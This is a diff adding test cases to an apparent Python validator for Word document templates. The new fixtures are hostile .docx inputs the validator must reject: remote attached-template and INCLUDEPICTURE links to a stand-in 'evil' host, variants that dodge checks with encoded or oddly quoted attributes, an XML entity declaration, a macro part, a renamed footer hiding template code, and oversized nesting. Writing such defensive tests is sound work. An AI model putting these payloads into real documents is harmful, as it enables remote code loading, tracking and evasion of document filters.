@@ -17,6 +17,7 @@ from hypothesis import strategies as st
 from luoshi.journeys.papers import FILLABLE, Fillable
 from luoshi.papers import samples
 from luoshi.papers.bulletin import Bulletin, Item, bulletin
+from luoshi.papers.markup import element
 from luoshi.papers.names import expected, name_of, names
 from luoshi.papers.page import written
 from luoshi.papers.paper import Paper
@@ -165,6 +166,16 @@ def test_every_name_that_is_not_there_is_told_with_the_nearest_and_its_place() -
         ("{% include 'x' %}", "B-126"),
         ("{% for 段 in 总体情况 recursive %}{% endfor %}", "B-126"),
         ("{{ self }}", "B-125"),
+        ("{{总体情况}}", "B-126"),
+        ("{% for 段 in 标题 %}{{段}}{% endfor %}", "B-126"),
+        ("{% for 行 in 已超期事项 %}{{行}}{% endfor %}", "B-126"),
+        (
+            "{% for a in 全文 %}{% for b in 全文 %}{% for c in 全文 %}x{% endfor %}{% endfor %}{% endfor %}",
+            "B-126",
+        ),
+        ("{{r 标题}}", "B-126"),
+        ("{{" + "(" * 5000 + "标题" + ")" * 5000 + "}}", "B-126"),
+        ("{% if 标题 %}" * 600 + "x" + "{% endif %}" * 600, "B-126"),
     ],
 )
 def test_nothing_but_names_rows_and_conditions_may_stand(text: str, problem: str) -> None:
@@ -197,6 +208,41 @@ def many() -> bytes:
     return stream.getvalue()
 
 
+def relation(rest: bytes) -> bytes:
+    return with_part(
+        "word/_rels/settings.xml.rels",
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://x/attachedTemplate" '
+        + rest
+        + b"/></Relationships>",
+    )
+
+
+def renamed_footer() -> bytes:
+    """A footer that is called something else, with what may not stand in it."""
+    file = changed(
+        starting(samples.bulletin()),
+        lambda d: d.sections[0].footer.paragraphs[0].add_run("{{ 1 + 1 }}"),
+    )
+    stream = BytesIO()
+    with zipfile.ZipFile(BytesIO(file)) as old, zipfile.ZipFile(stream, "w") as made:
+        for part in old.namelist():
+            made.writestr(
+                part.replace("footer", "evil"),
+                old.read(part)
+                .replace(b"footer1.xml", b"evil1.xml")
+                .replace(b"footer2.xml", b"evil2.xml"),
+            )
+    return stream.getvalue()
+
+
+def field(code: str) -> bytes:
+    def change(document: Any) -> None:
+        run = document.add_paragraph().add_run()._r
+        run.append(element(f"<w:instrText>{code}</w:instrText>"))
+
+    return changed(starting(samples.bulletin()), change)
+
+
 REMOTE = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
 
 
@@ -213,6 +259,12 @@ REMOTE = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/
         (many, "B-121"),
         (lambda: with_part("word/vbaProject.bin", b"x"), "B-122"),
         (lambda: with_part("word/_rels/settings.xml.rels", REMOTE), "B-123"),
+        (lambda: relation(b"Target='http://evil/x' TargetMode='External'"), "B-123"),
+        (lambda: relation(b'Target="http://evil/hyperlink" TargetMode = "External"'), "B-123"),
+        (lambda: relation(b'Target="http://evil/x" TargetMode="&#69;xternal"'), "B-123"),
+        (lambda: with_part("word/settings.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16")), "B-120"),
+        (lambda: field('INCLUDEPICTURE "http://evil/x.png"'), "B-123"),
+        (renamed_footer, "B-126"),
     ],
 )  # fmt: skip
 def test_a_hostile_file_is_a_problem_and_no_exception(
